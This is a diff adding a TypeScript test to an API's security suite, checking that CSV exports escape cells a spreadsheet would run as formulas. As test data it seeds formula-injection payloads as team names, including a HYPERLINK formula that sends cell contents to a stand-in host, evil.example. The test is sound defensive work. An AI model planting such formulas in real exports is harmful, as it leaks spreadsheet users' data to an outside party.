@@ -58,6 +58,71 @@ describe('security edges: /metrics, CSV cells, headers and cookies, per-tenant e
   };
   const errorText = (res: { body: { error?: { message?: string; details?: unknown } } }) => `${res.body.error?.message ?? ''} ${JSON.stringify(res.body.error?.details ?? [])}`;
 
+  describe('8. CSV exports neutralise cells that a spreadsheet would run as a formula', () => {
+    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open report")';
+    const NAMES = [HYPERLINK, '+SUM(1,2)', '-2+3', '@cmd', 'Plain, "quoted" team'];
+    let t: Awaited<ReturnType<typeof makeTenant>>;
+    const teamIds = new Map<string, string>();
+
+    beforeAll(async () => {
+      t = await makeTenant(sys.db, 'edge-csv');
+      for (const [i, name] of NAMES.entries()) {
+        // The API takes such names; the factory then gives the team a quota, so that it is in the report.
+        const made = await sys.http().post(`/v1/tenants/${t.tenant.id}/teams`).set('Authorization', ADMIN).send({ name, slug: `csv-${i}` });
+        expect(made.status).toBe(201);
+        await createTeam(sys.db, t.tenant.id, { name, slug: `csv-${i}`, quota: { guaranteed: 1, limit: 2 } });
+        teamIds.set(made.body.id, name);
+      }
+    });
+
+    /** RFC 4180: fields separated by commas, quoted fields with "" for a quote, lines by \n. */
+    const parseCsv = (text: string): string[][] => {
+      const rows: string[][] = [];
+      let row: string[] = [];
+      let cell = '';
+      let quoted = false;
+      for (let i = 0; i < text.length; i++) {
+        const c = text[i]!;
+        if (quoted) {
+          if (c === '"' && text[i + 1] === '"') {
+            cell += '"';
+            i++;
+          } else if (c === '"') quoted = false;
+          else cell += c;
+        } else if (c === '"') quoted = true;
+        else if (c === ',') {
+          row.push(cell);
+          cell = '';
+        } else if (c === '\n') {
+          row.push(cell);
+          rows.push(row);
+          row = [];
+          cell = '';
+        } else cell += c;
+      }
+      if (cell || row.length) {
+        row.push(cell);
+        rows.push(row);
+      }
+      return rows;
+    };
+
+    it('GET /v1/utilization?format=csv: a team named =HYPERLINK(...) comes out as text (leading quote, RFC 4180 quoting)', async () => {
+      const res = await sys.http().get('/v1/utilization?groupBy=team&step=1d&format=csv').set('Authorization', ADMIN);
+      expect(res.status).toBe(200);
+      expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open report"")",`);
+      const rows = parseCsv(res.text);
+      const labels = new Map(rows.filter((r) => teamIds.has(r[0]!)).map((r) => [r[0]!, r[1]!]));
+      expect(labels.size).toBe(NAMES.length);
+      for (const [id, name] of teamIds) expect(labels.get(id)).toBe(name === 'Plain, "quoted" team' ? name : `'${name}`);
+      // No text cell anywhere starts a formula; numbers stay numbers.
+      for (const r of rows.slice(1)) {
+        for (const cell of r) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
+        expect(r.slice(3).every((c) => c === '' || /^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(c))).toBe(true);
+      }
+    });
+  });
+
   describe('15. unknown fields are refused in every body and query (400 naming the field)', () => {
     let t: Awaited<ReturnType<typeof makeTenant>>;
     beforeAll(async () => {
